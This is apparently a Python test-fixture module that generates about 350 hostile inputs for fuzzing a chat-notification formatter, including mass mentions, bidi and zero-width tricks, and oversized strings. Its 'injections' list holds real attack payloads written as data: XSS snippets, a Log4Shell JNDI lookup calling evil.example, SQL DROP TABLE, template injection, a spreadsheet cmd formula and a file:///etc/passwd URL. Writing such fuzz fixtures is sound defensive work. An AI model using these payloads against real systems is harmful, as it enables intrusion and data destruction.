"""Some 350 posts by people who mean harm, the same ones every time: by kind, and mixtures of several kinds.

Each is a text for every field that comes from outside, and an address. All people and sites are invented.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from random import Random

SEED = 20261122
MIXTURES = 140


@dataclass(frozen=True)
class Hostile:
    """One post. `kind` says what it tries."""

    kind: str
    text: str
    url: str


KINDS: dict[str, tuple[str, ...]] = {
    "calls everybody": ("<!channel>", "<!here>", "<!everyone>", "<!here|here>", "@here", "@channel", "@everyone now", "<!subteam^S0123456>", "<!subteam^S012|@team>"),
    "calls somebody": ("<@U0123456789>", "<@W012>", "<@U1|boss>", "<#C0123456|general>", "<#C0123456>", "@ana", "#general", "U0EVIL123"),
    "links": ("<https://evil.example|Your bank>", "https://evil.example/a?b=c&d=<e>", "http://evil.example", "evil.example", "www.evil.example/x", "<mailto:a@evil.example|write>", "mailto:a@evil.example", "a@evil.example", "<tel:+33100000000|call>", "tel:+33100000000", "slack://user?team=T0&id=U0", "javascript:alert(1)", "ftp://evil.example", "file:///etc/passwd"),
    "dates": ("<!date^1^{date}^https://evil.example|now>", "<!date^1392734382^{date_num} {time_secs}|x>", "<!date^99999999999999999^{time}|y>"),
    "escaped twice": ("&lt;!channel&gt;", "&amp;lt;!here&amp;gt;", "&#60;!channel&#62;", "&lt;https://evil.example|x&gt;", "\\u003c!channel\\u003e", "%3C!channel%3E"),
    "styles": ("*bold*", "_italic_", "~gone~", "> quote", ">>> all of it", "&gt; quote", "1. one\n2. two", "* a\n* b", "*", "_", "*_~`all`~_*"),
    "code": ("`code`", "```block```", "```never closed", "`", "``````", "```\n<!channel>\n```", "`<!here>`"),
    "emoji codes": (":rotating_light:", ":white_check_mark: Resolved", ":+1::skin-tone-3:", "::::", ":not an emoji:", ":a:b:c:"),
    "quotes": ('"', "'", "“”„‟«»", '"},{"type":"section"', "\\", "\\\\\"", "'''\"\"\""),
    "bidi": ("\u202egnp.exe", "\u202d\u202e\u202c<!channel>", "\u2066\u2067\u2068\u2069", "\u202a" * 200, "a\u2067b", "\u200f\u200e\u061c"),
    "right to left": ("שלום (@אבא) 12.4k", "الطلب لم يصل 123 حتى الآن!", "\u200fמשלוח 3 ימים\u200e", "English עברית English 45", "«عربي» 9:41"),
    "zero width": ("<!\u200bchannel>", "@\u200bhere", "\u200b" * 300, "\ufeff\u2060\u00ad", "\u3164\u3164", "ev\u200bil.example", "\U000e0041\U000e0042", "\u2800 \u2800", "\u180e"),
    "towers": ("Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349", "a" + "\u0301" * 5000, "e\u20dd\u20de\u20df\u20e0\u20e2", "\u0e49" * 400, "\u0301\u0301\u0301"),
    "controls": ("\x00", "a\x00b\x00", "\x01\x02\x03\x1e\x1f", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "\x08\x08\x08", "\x7f", "\r\r\n\x0b\x0c", "\x85\u2028\u2029", "\ufffe\uffff\ufdd0"),
    "half letters": ("\ud800", "\udfff x", "\ud83d", "\udc00\ud800", "ok \ud83d\ude00"),
    "injections": ('{"type":"mrkdwn","text":"<!channel>"}', '"}],"blocks":[{"type":"divider"}]}', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](https://evil.example)", "![x](https://evil.example/p.png)", "[bold red]markup[/]", "{text}", "{0}", "{who.__class__}", "{", "}", "%s%n%(x)s", "${jndi:ldap://evil.example/x}", "'; DROP TABLE mention; --", "{{7*7}}", "<%= 1 %>", "\n---\n# head", "=cmd|' /C calc'!A0"),
    "look-alikes": ("＠channel", "﹫here", "@сhannel", "＜!channel＞", "‹!here›", "<ǃchannel>", "ⓗttps://evil.example", "https：//evil.example", "evil。example", "＃general", "⁎bold⁎"),
    "our own marks": ("c-7F3K:1:head", "case_claim", "claim:c-7F3K:1", "c-7F3K", "✅ Resolved: ", "🔴 Critical", "U0ANA1234", "S0GROUP12", "Claimed by", "–", "listener_case", "2026-W47", "s-1:1"),
    "families": ("👩\u200d👩\u200d👧\u200d👦", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "👍🏽👍🏿", "🇫🇷🇩🇪", "✊\ufe0f\ufe0e", "\u200d\u200d"),
    "nothing": ("", " ", "\n", "\t", "\u00a0", ".", "0", "None", "null", "\u200b"),
    "large": ("x" * 10_000, "word " * 2000, "\n" * 3000, "a\n" * 3000, "😀" * 3000, "<!channel>" * 900, "&" * 10_000, "<" * 10_000, "_" * 10_000, "`" * 10_000, "\u202e" * 9000, "\x00" * 9000, "\ud83d" * 5000, "\u200b" * 9000, ".a" * 5000, "::::" * 2500, "é" * 9000, "\"" * 9000, "\\" * 9000, "a\u0301\u0302\u0303\u0304\u0305" * 1600, "https://evil.example/" + "x" * 9000, "@" + "a" * 9000, "\t" * 9000, "漢字" * 4000, "﷽" * 4000),
}  # fmt: skip

WRAPPERS = ("{}", "a {} b", "*{}*_{}_", "`{}", "\n\n\n{}\r\n{}", "\u202e{}\u202c", "\x00{}\x00", "<{}>", "“{}”", "\ud800{}", "<!\u200bchannel>{}", "{}|{}")  # fmt: skip
URLS = (
    "https://forum.example/t/1", "http://forum.example:8080/ä?b=<c>", "javascript:alert(1)", "data:text/html,<b>", "",
    "https://bank.example@evil.example/", "https://bücher.example/", "https://a.example/\u202egnp", "//evil.example",
    "https://a.example/ b", "https://a.example/" + "x" * 2900, "https://a.example/" + "x" * 9000, "https://[::1]/x",
    "HTTPS://A.EXAMPLE/b|c", "https://a.example/?q=" + "ä" * 400, "mailto:a@b.example", "https:///x", "\x00https://a.example",
    "https://a.example/\ud800", "https://" + "a." * 400 + "example/", "https://xn--/", "https://a.example:99999/",
)  # fmt: skip


def posts() -> list[Hostile]:
    """All of them; the same list at every call."""
    return list(_posts(Random(SEED)))


def one_of_each() -> list[Hostile]:
    """The first of every kind, and some mixtures: for tests in which each costs a conversation over HTTP."""
    found: dict[str, Hostile] = {}
    mixed = []
    for post in posts():
        found.setdefault(post.kind, post)
        if post.kind == "mixture":
            mixed.append(post)
    return [*found.values(), *mixed[1:8]]


def _posts(chance: Random) -> Iterator[Hostile]:
    number = 0
    for kind, texts in KINDS.items():
        for text in texts:
            yield Hostile(kind, text, URLS[number % len(URLS)])
            number += 1
    short = [text for kind, texts in KINDS.items() for text in texts if kind != "large"]
    for _ in range(MIXTURES):
        pieces = [chance.choice(WRAPPERS).replace("{}", chance.choice(short)) for _ in range(chance.randint(2, 6))]
        yield Hostile("mixture", chance.choice((" ", "", "\n", "\t", "|")).join(pieces), chance.choice(URLS))
